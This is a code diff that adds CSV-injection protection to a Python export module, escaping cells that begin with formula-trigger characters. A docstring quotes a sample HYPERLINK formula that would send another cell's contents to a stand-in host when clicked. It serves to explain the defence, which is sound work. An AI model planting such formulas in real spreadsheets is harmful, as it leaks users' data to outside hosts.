@@ -348,11 +348,34 @@ def breakdown_table(data: ExportData, lang: str) -> Table:
 
 # --- CSV ----------------------------------------------------------------------------------
 
+FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
+"""First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
+(OWASP "CSV injection"): `=HYPERLINK("https://x/?leak="&A1, "…")` in an anonymous note
+would send another cell's contents out when clicked."""
+
+
+def is_formula_like(text: str) -> bool:
+    """Whether a spreadsheet would treat `text` as a formula rather than as text."""
+    return text.startswith(FORMULA_TRIGGERS)
+
+
+def neutralise_csv_text(text: str) -> str:
+    """A CSV cell a spreadsheet shows as text: OWASP's leading apostrophe when needed.
+
+    Every typed text (notes, themes, summary points, method and role names, the workshop
+    name) passes through here; numbers are written by `_csv_cell` and never start with a
+    trigger (scores are not negative). The apostrophe is what Excel itself stores when a
+    person types '=…, so the text reads back unchanged after it.
+    """
+    return "'" + text if is_formula_like(text) else text
+
 
 def _csv_cell(value: Cell) -> str:
     if isinstance(value, bool):
         return "true" if value else "false"
-    return str(value)
+    if isinstance(value, int):
+        return str(value)
+    return neutralise_csv_text(value)
 
 
 def table_to_csv(table: Table) -> bytes:
